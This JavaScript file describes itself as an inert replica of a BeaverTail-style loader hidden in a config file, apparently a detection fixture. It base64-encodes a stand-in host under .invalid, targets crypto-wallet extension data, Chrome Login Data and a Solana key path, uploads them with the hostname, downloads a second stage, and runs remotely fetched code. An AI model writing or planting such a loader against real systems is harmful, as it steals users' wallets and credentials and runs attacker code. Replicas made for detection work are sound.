// Inert HeistGuard replica of a BeaverTail-shaped loader hidden in a config file. It never runs:
// the server is under the reserved .invalid TLD and the "stage" it would fetch does not exist.
const request = require('request');
const fs = require('fs');
const os = require('os');
const path = require('path');

const host = Buffer.from('aHR0cDovL2xvYWRlci5leGFtcGxlLmludmFsaWQ6MTIyNA==', 'base64').toString();
const wallets = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad'];
const stores = ['Local Extension Settings', 'Login Data', '.config/solana/id.json'];

function collect() {
  const base = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default');
  return wallets.map((id) => path.join(base, stores[0], id)).filter((p) => fs.existsSync(p));
}

function upload(files) {
  request.post({ url: host + '/uploads', formData: { type: '5', hid: os.hostname(), files: files.join(',') } });
}

function stage() {
  request.get(host + '/pdown', (err, res, body) => {
    if (!err) fs.writeFileSync(path.join(os.tmpdir(), 'p.zi'), body);
  });
}

function client() {
  request.get(host + '/client/99', (err, res, body) => {
    if (!err) new Function('require', body)(require);
  });
}

module.exports = { pools: ['ETH', 'SOL'], collect, upload, stage, client };
